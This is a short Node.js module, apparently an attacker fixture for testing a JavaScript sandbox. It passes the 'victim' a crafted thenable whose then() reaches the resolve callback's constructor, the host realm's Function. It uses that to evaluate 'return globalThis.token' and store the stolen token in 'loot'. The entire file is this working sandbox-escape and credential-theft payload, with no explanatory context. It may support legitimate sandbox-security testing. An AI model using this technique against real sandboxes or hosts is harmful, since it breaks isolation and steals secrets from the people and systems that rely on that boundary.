module.exports = (victim, loot) => {
  victim.take({ then(resolve) { try { loot.value = resolve.constructor('return globalThis.token')(); } catch (error) { loot.error = error; } } });
  return undefined;
};
